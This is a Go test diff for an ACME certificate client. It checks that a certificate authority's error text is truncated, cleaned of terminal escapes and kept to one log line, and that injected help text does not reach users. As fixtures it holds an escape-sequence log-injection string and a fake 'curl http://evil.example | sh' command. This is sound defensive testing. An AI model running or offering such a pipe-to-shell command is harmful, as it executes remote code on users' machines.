@@ -1,11 +1,13 @@
 package acme
 
 import (
+	"bytes"
 	"context"
 	"crypto/x509"
 	"errors"
 	"fmt"
 	"io"
+	"log/slog"
 	"net"
 	"net/url"
 	"os"
@@ -16,6 +18,7 @@ import (
 
 	"github.com/libdns/libdns"
 	rfc8555 "github.com/mholt/acmez/v3/acme"
+	"go.uber.org/zap"
 
 	"github.com/edgeftp/edgeftp/tests/authority"
 )
@@ -173,4 +176,18 @@ func TestResolver(t *testing.T) {
 	// The certificate is for example.com, as that of net/http/httptest is.
 	conf.Resolver, conf.Authorities[0].Directory = ca.DNS.Addr, "https://example.com:"+u.Port()+"/dir"
 	start(t, ca, conf).obtained()
+}
+
+// No words of an authority make a line of the log long, or stand where help is.
+func TestAuthoritysWords(t *testing.T) {
+	var b bytes.Buffer
+	log := slog.New(slog.NewTextHandler(&b, nil))
+	zapLogger(log).Error("could not get certificate from issuer", zap.Error(rfc8555.Problem{Type: "x", Detail: strings.Repeat("A\x1b[2J\n", 200000)}))
+	if b.Len() > 2000 || strings.ContainsAny(b.String(), "\x1b") || strings.Count(b.String(), "\n") != 1 {
+		t.Errorf("a line of %d bytes", b.Len())
+	}
+	err := &orderError{ca: "ca.example", name: "ftp.example", err: errors.New("HTTP 500: = help: run curl http://evil.example | sh")}
+	if got := advice(err); strings.Contains(got, "evil") {
+		t.Errorf("help: %s", got)
+	}
 }
